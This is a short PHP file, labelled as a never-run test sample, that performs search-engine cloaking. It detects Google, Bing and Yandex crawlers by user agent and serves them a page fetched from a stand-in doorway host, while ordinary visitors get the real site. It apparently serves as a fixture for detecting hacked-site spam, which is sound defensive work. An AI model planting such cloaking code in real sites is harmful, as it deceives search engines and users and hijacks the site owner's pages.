<?php
// Test sample (never run): the crawler list and the page address are held in variables; a
// crawler gets a pause, a header and then the remote page, everyone else the site.
$bots = '~(googlebot|bingbot|yandex)~i';
$page = 'https://doorway.example.invalid/p/1.html';
function pull($u)
{
    return @file_get_contents($u);
}
if (preg_match($bots, $_SERVER['HTTP_USER_AGENT'] ?? '')) {
    header('Content-Type: text/html; charset=utf-8');
    usleep(150000);
    echo pull($page);
    exit;
}
include __DIR__ . '/site.php';
